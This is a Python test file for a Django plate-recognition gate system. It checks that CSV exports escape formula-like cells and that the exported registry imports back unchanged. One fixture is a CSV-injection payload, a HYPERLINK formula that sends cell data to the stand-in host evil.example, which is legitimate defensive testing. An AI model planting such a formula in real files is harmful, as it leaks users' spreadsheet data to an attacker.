"""No CSV the product writes carries a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone

from anpr.models import Gate, Vehicle
from anpr.registry_csv import apply_import, plan_import
from damanat.csv_cells import safe_cell
from staff.tests.factories import passage

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_a_cell_starting_like_a_formula_is_written_as_text(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["ABJ 1234", "2026-02-20T12:00:00+03:00", -3, 0.5, ""])
def test_ordinary_cells_and_numbers_are_unchanged(cell):
    assert safe_cell(cell) == cell


def test_entry_exit_log_csv_neutralises_plate_and_owner(client_for, guard):
    owner = Vehicle.objects.create(plate="ABJ1234", owner_name=HYPERLINK, category="employee")
    held = passage("ABJ1234", Gate.ENTRY, timezone.now(), "employee", vehicle=owner)
    held.raw_plate = "=1+2"
    held.save()

    answer = client_for(guard).get("/log/", {"format": "csv"}, HTTP_ACCEPT_LANGUAGE="en")

    row = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode())))[1]
    assert row[4] == "'=1+2"
    assert row[7] == "'" + HYPERLINK


def test_registry_export_neutralises_and_imports_back_unchanged(admin_client):
    Vehicle.objects.create(plate="ABJ1234", owner_name=HYPERLINK, notes="-call gate", category="employee")

    exported = admin_client.get("/admin/anpr/vehicle/export/").content.decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["owner_name"] == "'" + HYPERLINK and row["notes"] == "'-call gate"

    plan = plan_import(exported)
    assert plan.count("unchanged") == 1, [r.errors or r.changes for r in plan.rows]
    apply_import(plan)
    assert Vehicle.objects.get().owner_name == HYPERLINK
